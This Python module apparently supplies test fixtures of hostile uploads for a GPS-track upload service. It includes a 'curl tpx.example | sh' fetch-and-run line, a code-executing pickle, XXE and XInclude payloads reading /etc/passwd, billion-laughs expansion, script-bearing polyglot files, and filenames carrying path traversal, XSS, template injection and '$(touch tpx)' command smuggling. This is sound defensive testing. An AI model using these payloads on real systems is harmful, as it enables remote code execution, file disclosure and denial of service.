"""Files that are not what they say, and files that want to cost more than they may."""

from collections.abc import Callable

HEAD = '<?xml version="1.0"?>'
BEGIN = '<gpx version="1.1" creator="x" xmlns="http://www.topografix.com/GPX/1/1"><trk><name>{name}</name><trkseg>'
END = "</trkseg></trk></gpx>"
POINT = '<trkpt lat="{lat}" lon="{lon}"><ele>{ele}</ele><time>{time}</time></trkpt>'


def gpx(
    name: str = "",
    lat: str = "46.{n:04d}",
    lon: str = "14.5",
    ele: str = "300",
    points: int = 40,
    **more: str,
) -> bytes:
    """A track that goes north, unless something is said otherwise."""
    time = more.get("time", "2026-06-01T10:00:00Z")
    way = (POINT.format(lat=lat.format(n=n), lon=lon, ele=ele, time=time) for n in range(points))
    return f"{HEAD}{BEGIN.format(name=name)}{''.join(way)}{END}".encode()


def _with_doctype(definition: str, name: str = "&x;") -> bytes:
    return gpx(name).replace(HEAD.encode(), f"{HEAD}<!DOCTYPE gpx [{definition}]>".encode())


def _many(element: str, times: int) -> bytes:
    return f"{HEAD}<gpx>{element * times}</gpx>".encode()


_LAUGHS = "".join(f'<!ENTITY x{n} "{f"&x{n - 1};" * 10}">' for n in range(1, 9))

CONTENTS: dict[str, bytes] = {
    "nothing": b"",
    "blanks": b" \r\n\t" * 50,
    "a picture that is a script": b"GIF89a/*" + b"\0" * 20 + b"*/=1;tpx()",
    "a paper that is a page": b"%PDF-1.7\n<html><script>tpx()</script>",
    "a drawing with a script": b'<svg xmlns="http://www.w3.org/2000/svg"><script>tpx()</script></svg>',
    "a page": b"<!doctype html><script>tpx()</script>",
    "a program": b"MZ\x90\0" + b"\0" * 200,
    "a shell script": b"#!/bin/sh\ncurl tpx.example | sh\n",
    "a pickle": b"\x80\x04\x95cposix\nsystem\n(S'true'\ntR.",
    "a file from outside": _with_doctype('<!ENTITY x SYSTEM "file:///etc/passwd">'),
    "an address from outside": _with_doctype('<!ENTITY x SYSTEM "http://127.0.0.1:9/tpx">'),
    "a definition from outside": gpx("x").replace(HEAD.encode(), f'{HEAD}<!DOCTYPE gpx SYSTEM "http://127.0.0.1:9/x.dtd">'.encode()),
    "a parameter from outside": _with_doctype('<!ENTITY % x SYSTEM "file:///etc/passwd"> %x;'),
    "a billion laughs": _with_doctype(f'<!ENTITY x0 "tpx">{_LAUGHS}', "&x8;"),
    "one long laugh": _with_doctype(f'<!ENTITY x "{"tpx" * 1000}">', "&x;" * 1000),
    "an attribute with a default": _with_doctype('<!ATTLIST gpx tpx CDATA "x">', "x"),
    "no number for a place": gpx(lat="nan"),
    "an endless place": gpx(lat="inf"),
    "a place beyond the pole": gpx(lat="91"),
    "a place beyond the world": gpx(lon="1e308"),
    "no number for a height": gpx(ele="tpx"),
    "nesting": f"{HEAD}<gpx>{'<a>' * 5000}".encode(),
    "no end": gpx()[:-20],
    "two of everything": gpx() + gpx(),
    "an encoding that nobody knows": gpx().replace(b'"1.0"', b'"1.0" encoding="tpx"'),
    "an included file": gpx().replace(b"<trk>", b'<xi:include href="/etc/passwd"/><trk>'),
    "one point": gpx(points=1),
    "the same point": gpx(lat="46.1"),
    "a recording cut off": b"\x0e\x10\xd9\x07\xff\xff\x00\x00.FIT",
    "a recording of nothing": b"\x0e\x10\xd9\x07\x00\x00\x00\x00.FIT\x00\x00\x00\x00",
    "a recording with a huge size": b"\x0e\x10\xd9\x07\xff\xff\xff\xff.FIT\x00\x00" + b"\x40\0\0\0\0\xff" * 50,
}  # fmt: skip

NAMES: dict[str, str] = {
    "a way up": "../../../../tmp/tpx.gpx",
    "a way up, the other way": "..\\..\\..\\tpx.gpx",
    "from the root": "/etc/cron.d/tpx",
    "from a drive": "C:\\Windows\\tpx.gpx",
    "reserved": "CON.gpx",
    "two endings": "tpx.php.gpx",
    "another ending": "tpx.html",
    "no ending": "tpx",
    "hidden": ".htaccess",
    "three hundred bytes": "t" * 296 + ".gpx",
    "the other way round": "tpx\u202expg.exe",
    "markup": "<img src=x onerror=tpx()>.gpx",
    "a template": "{{7*7}}.gpx",
    "a command": "$(touch tpx).gpx",
    "a blank": " ",
}

LARGE: dict[str, Callable[[], bytes]] = {
    "many points": lambda: gpx(lat="46.{n:06d}", points=25_000),
    "years one and 9999": lambda: gpx(time="0001-01-01T00:00:00Z") + gpx(time="9999-12-31T23:59:59Z"),
    "a time that goes back": lambda: gpx(time="1969-12-31T00:00:00Z"),
    "millions of blanks": lambda: gpx().replace(b"<trkseg>", b"<trkseg>" + b" " * 4_000_000),
    "a long name": lambda: gpx("t" * 2_000_000),
    "a long attribute": lambda: gpx(lat="4" * 2_000_000),
    "many attributes": lambda: gpx().replace(
        b"<trkseg>", b"<trkseg " + b" ".join(b"a%d='x'" % n for n in range(20_000)) + b">"
    ),
    "many empty tracks": lambda: _many("<trk></trk>", 80_000),
    "many laughs": lambda: CONTENTS["a billion laughs"],
    "a recording of definitions": lambda: (
        b"\x0e\x10\xd9\x07\xff\xff\x0f\x00.FIT\x00\x00" + b"\x40\0\0\0\0\0" * 80_000
    ),
}
"""Made when wanted: each must cost less than two seconds of a processor and 200 MB."""

LARGEST: dict[str, Callable[[], bytes]] = {
    "as many points as fit": lambda: gpx(lat="46.{n:06d}", points=240_000),
    "blanks only": lambda: gpx().replace(b"<trkseg>", b"<trkseg>" + b" " * 19_000_000),
    "a million short points": lambda: _many("<trkpt/>", 1_000_000),
    "millions of empty elements": lambda: _many("<a/>", 4_000_000),
}
"""About twenty megabytes each: more is never read."""
